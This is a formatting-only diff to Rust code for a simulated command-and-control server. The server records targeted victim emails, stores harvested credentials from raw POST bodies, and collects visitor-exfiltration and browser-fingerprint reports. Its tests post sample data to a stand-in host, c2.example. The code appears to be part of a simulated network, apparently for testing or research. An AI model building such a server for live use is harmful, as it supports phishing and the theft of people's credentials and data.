@@ -34,28 +34,48 @@ impl C2Server {
     /// Add a targeted victim email.
     pub fn add_victim(&self, email: &str) -> &Self {
         let email = email.to_ascii_lowercase();
-        self.state.lock().unwrap_or_else(PoisonError::into_inner).victims.insert(email);
+        self.state
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .victims
+            .insert(email);
         self
     }
 
     /// Credentials harvested so far (raw POST bodies).
     pub fn harvested(&self) -> Vec<String> {
-        self.state.lock().unwrap_or_else(PoisonError::into_inner).harvested.clone()
+        self.state
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .harvested
+            .clone()
     }
 
     /// Visitor-data exfil reports received.
     pub fn visitor_reports(&self) -> Vec<String> {
-        self.state.lock().unwrap_or_else(PoisonError::into_inner).visitor_reports.clone()
+        self.state
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .visitor_reports
+            .clone()
     }
 
     /// Fingerprint-library reports received.
     pub fn fingerprint_reports(&self) -> Vec<String> {
-        self.state.lock().unwrap_or_else(PoisonError::into_inner).fingerprint_reports.clone()
+        self.state
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .fingerprint_reports
+            .clone()
     }
 
     /// `(email, was_known)` victim-check lookups served.
     pub fn victim_checks(&self) -> Vec<(String, bool)> {
-        self.state.lock().unwrap_or_else(PoisonError::into_inner).victim_checks.clone()
+        self.state
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .victim_checks
+            .clone()
     }
 }
 
@@ -68,7 +88,14 @@ impl SiteHandler for C2Server {
                 let email = body.trim().to_ascii_lowercase();
                 let known = st.victims.contains(&email);
                 st.victim_checks.push((email, known));
-                HttpResponse::ok("text/plain", if known { b"yes".to_vec() } else { b"no".to_vec() })
+                HttpResponse::ok(
+                    "text/plain",
+                    if known {
+                        b"yes".to_vec()
+                    } else {
+                        b"no".to_vec()
+                    },
+                )
             }
             p if p == crate::infrastructure::COLLECT_PATH => {
                 st.visitor_reports.push(body);
@@ -140,7 +167,10 @@ mod tests {
     #[test]
     fn collect_and_fp_endpoints_accumulate() {
         let (net, c2) = hosted_c2();
-        net.request(HttpRequest::post("https://c2.example/collect", b"ip=1.2.3.4"));
+        net.request(HttpRequest::post(
+            "https://c2.example/collect",
+            b"ip=1.2.3.4",
+        ));
         net.request(HttpRequest::post("https://c2.example/fp", b"wd=false"));
         assert_eq!(c2.visitor_reports(), ["ip=1.2.3.4"]);
         assert_eq!(c2.fingerprint_reports(), ["wd=false"]);
@@ -149,6 +179,9 @@ mod tests {
     #[test]
     fn unknown_paths_404() {
         let (net, _) = hosted_c2();
-        assert_eq!(net.request(HttpRequest::get("https://c2.example/x")).status, 404);
+        assert_eq!(
+            net.request(HttpRequest::get("https://c2.example/x")).status,
+            404
+        );
     }
 }
